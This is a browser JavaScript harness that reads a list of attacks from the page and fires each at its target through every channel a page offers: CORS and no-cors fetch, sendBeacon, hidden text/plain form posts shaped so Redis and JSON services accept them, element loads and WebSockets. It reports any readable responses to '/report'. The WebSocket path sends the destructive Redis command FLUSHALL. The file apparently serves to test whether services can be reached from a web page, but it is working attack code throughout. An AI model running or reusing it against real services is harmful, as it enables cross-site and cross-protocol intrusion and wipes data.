/** Runs in the browser: tries every attack in every way a page has, and reports what it could read. */
async function attackAll(attacks) {
  const PATIENCE_MS = 10_000;
  const attempts = [];
  const signal = () => AbortSignal.timeout(PATIENCE_MS);

  async function read(name, url, options) {
    try {
      const answer = await fetch(url, { ...options, signal: signal() });
      const isReadable = answer.type !== 'opaque' && answer.type !== 'opaqueredirect';
      attempts.push({ name, ...(isReadable && { status: answer.status, body: await answer.text() }) });
    } catch {
      attempts.push({ name });
    }
  }

  /** An element that loads the address, or is refused. */
  function load(tag, url) {
    return new Promise((resolve) => {
      const element = document.createElement(tag);
      element.onload = () => resolve();
      element.onerror = () => resolve();
      setTimeout(resolve, PATIENCE_MS / 5);
      element.src = url;
      document.body.append(element);
    });
  }

  /** A form needs no permission; as text/plain its one field is sent as it stands. */
  function submit({ url, body = '' }, frame) {
    return new Promise((resolve) => {
      const target = document.createElement('iframe');
      target.name = frame;
      document.body.append(target);
      const form = document.createElement('form');
      Object.assign(form, { action: url, method: 'POST', enctype: 'text/plain', target: frame });
      const field = document.createElement('textarea');
      // "name=value": the sign goes where JSON and Redis do not mind it
      const [name = '', value = ''] = body.includes('=') ? body.split('=', 2) : [body, ''];
      field.name = name;
      field.value = value;
      form.append(field);
      document.body.append(form);
      target.onload = () => resolve();
      setTimeout(resolve, PATIENCE_MS / 5);
      form.submit();
    });
  }

  function connect(url) {
    return new Promise((resolve) => {
      const socket = new WebSocket(url.replace('http', 'ws'));
      socket.onopen = () => socket.send('FLUSHALL\r\n');
      socket.onclose = () => resolve();
      setTimeout(resolve, PATIENCE_MS / 5);
    });
  }

  await Promise.all(
    attacks.map(async (attack, index) => {
      const { name, url, method = 'POST', headers = {}, body } = attack;
      const content = body === undefined ? {} : { body };
      await read(`${name}: cors`, url, { method, headers, ...content });
      await read(`${name}: simple cors`, url, {
        method,
        headers: { 'content-type': 'text/plain' },
        ...content,
      });
      await read(`${name}: no-cors`, url, { method, mode: 'no-cors', ...content });
      await read(`${name}: get`, url, { method: 'GET' });
      if (method !== 'POST') return;
      navigator.sendBeacon(url, body);
      await submit(attack, `frame-${index}`);
      await Promise.all([load('img', url), load('script', url), load('iframe', url), connect(url)]);
    }),
  );
  await fetch('/report', { method: 'POST', body: JSON.stringify(attempts) });
}

attackAll(JSON.parse(document.getElementById('attacks').textContent)).catch((error) =>
  fetch('/report', { method: 'POST', body: JSON.stringify(String(error)) }),
);
